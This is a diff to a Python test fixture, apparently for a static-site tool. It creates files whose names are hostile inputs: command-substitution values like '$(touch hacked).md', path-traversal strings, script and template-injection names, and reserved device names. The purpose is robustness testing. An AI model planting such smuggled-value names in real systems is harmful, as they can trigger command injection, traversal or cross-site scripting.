-    "..%2f..%2fescape.md", "%2e%2e%2fescape.md", "%00.md", "a%0ab.md", "..\\..\\escape.md", "C:escape.md", "...md", "....md", "-rf.md", "--help.md", "$(touch hacked).md", "`touch hacked`.md", "a;touch hacked.md", "a|b.md", "a&b.md", "<script>alert(1)<script>.md", "\"onclick=\"alert(1).md", "'quote'.md", "{{ 7*'zq' }}.md", "{% include 'x' %}.md", "new\nline.md", "tab\tin.md", "control\x07bell.md", "escape\x1b[31m.md", "\u202egnp.md", "zero\u200bwidth.md", "\ufeffbom.md", "soft\u00adhyphen.md", "CON.md", "con.md", "NUL.txt", "aux.json", "COM1.html", "_headers.md", "_redirects.md", "_headers", "CNAME.md", "CNAME", "htaccess.md", "sw.js.md", "sw.md", "web.config.md", "well-known.md", "robots.txt", "robots.md", "sitemap.md", "feed.md", "index.md", "INDEX.md", "index.html", "404.md", "assets.md", "data.md", "manifest.md", "briefing.md", "Case.md", "case.md", "CASE.md", "caf\u00e9.md", "cafe\u0301.md", "stra\u00dfe.md", "strasse.md", "\u0130stanbul.md", "istanbul.md", "ﬁle.md", "file.md", "trailing.md.", "trailing.md ", " leading.md", "two  blanks.md", "dot.", "no-suffix", "wrong.exe", "wrong.md.exe", "shell.sh", "picture.svg", "page.xhtml", "data.xml", "table.csv", "upper.MD", "Mixed.Md", "name.markdown", "page.htm", ".hidden.md", ".md", "~backup.md~", "#lock#.md", "x" * 252 + ".md", "\u6e2f" * 84 + ".md", "\U0001f600.md", "\u0301.md", "---.md", "&amp;.md", "&#60;.md", "?q=1.md", "#anchor.md", "*.md", ":colon.md", "a" * 60 + ".md", "overrides.yaml", "config.yaml", "=cmd.md", "+plus.md", "@at.md", "\u2028line.md", "\u0430pple.md", "apple.md",
+    "..%2f..%2fescape.md", "%2e%2e%2fescape.md", "%00.md", "a%0ab.md", "..\\..\\escape.md", "C:escape.md", "...md", "....md", "-rf.md", "--help.md", "$(touch hacked).md", "`touch hacked`.md", "a;touch hacked.md", "a|b.md", "a&b.md", "<script>alert(1)<script>.md", '"onclick="alert(1).md', "'quote'.md", "{{ 7*'zq' }}.md", "{% include 'x' %}.md", "new\nline.md", "tab\tin.md", "control\x07bell.md", "escape\x1b[31m.md", "\u202egnp.md", "zero\u200bwidth.md", "\ufeffbom.md", "soft\u00adhyphen.md", "CON.md", "con.md", "NUL.txt", "aux.json", "COM1.html", "_headers.md", "_redirects.md", "_headers", "CNAME.md", "CNAME", "htaccess.md", "sw.js.md", "sw.md", "web.config.md", "well-known.md", "robots.txt", "robots.md", "sitemap.md", "feed.md", "index.md", "INDEX.md", "index.html", "404.md", "assets.md", "data.md", "manifest.md", "briefing.md", "Case.md", "case.md", "CASE.md", "caf\u00e9.md", "cafe\u0301.md", "stra\u00dfe.md", "strasse.md", "\u0130stanbul.md", "istanbul.md", "ﬁle.md", "file.md", "trailing.md.", "trailing.md ", " leading.md", "two  blanks.md", "dot.", "no-suffix", "wrong.exe", "wrong.md.exe", "shell.sh", "picture.svg", "page.xhtml", "data.xml", "table.csv", "upper.MD", "Mixed.Md", "name.markdown", "page.htm", ".hidden.md", ".md", "~backup.md~", "#lock#.md", "x" * 252 + ".md", "\u6e2f" * 84 + ".md", "\U0001f600.md", "\u0301.md", "---.md", "&amp;.md", "&#60;.md", "?q=1.md", "#anchor.md", "*.md", ":colon.md", "a" * 60 + ".md", "overrides.yaml", "config.yaml", "=cmd.md", "+plus.md", "@at.md", "\u2028line.md", "\u0430pple.md", "apple.md",
 )  # fmt: skip
 
 
 def hostile_names(content: Path) -> int:
-    """Files whose names are the weapon, as far as the file system takes them; returns how many were made."""
+    """Files whose names are the weapon, as far as the file system takes them; returns how many were made that no reader may pass over."""
     made = 0
     for folder in ("names", "names/deep/er"):
         (content / folder).mkdir(parents=True, exist_ok=True)
     for number, name in enumerate(_NAMES):
-        made += _made(os.fsencode(content / "names") + b"/" + name.encode(), f"Article {number} of the names. Some {number} people came.\n")
+        new = _made(os.fsencode(content / "names") + b"/" + name.encode(), f"Article {number} of the names. Some {number} people came.\n")
+        made += new * (not name.startswith("."))
     made += _made(os.fsencode(content / "names") + b"/undecodable-\xff\xfe.md", NEWS)
     made += _made(os.fsencode(content / "names") + b"/latin-\xe9.md", NEWS)
     for folder in ("<b>", "..%2f..", "_headers", ".well-known", "dir.md", "CON", "new\nfolder", "\u202efolder", "{{ 7*'zq' }}", "x" * 200, "=cmd"):
         with suppress(OSError):
             (content / "names" / folder).mkdir()
-            made += _made(os.fsencode(content / "names" / folder / "article.md"), f"An article in a folder. Folder {folder!r}.\n")
+            new = _made(os.fsencode(content / "names" / folder / "article.md"), f"An article in a folder. Folder {len(folder)}.\n")
+            made += new * (not folder.startswith("."))
     return made
 
 
